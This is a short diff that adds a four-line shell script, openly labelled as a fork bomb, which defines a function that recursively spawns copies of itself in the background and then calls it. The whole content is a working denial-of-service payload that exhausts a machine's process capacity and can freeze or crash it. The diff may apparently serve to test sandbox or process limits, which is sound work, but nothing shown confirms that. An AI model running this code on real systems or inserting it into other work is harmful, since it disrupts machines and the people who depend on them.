@@ -1,0 +1,4 @@
+# A fork bomb.
+bomb() { bomb | bomb & }
+bomb
+sleep 60
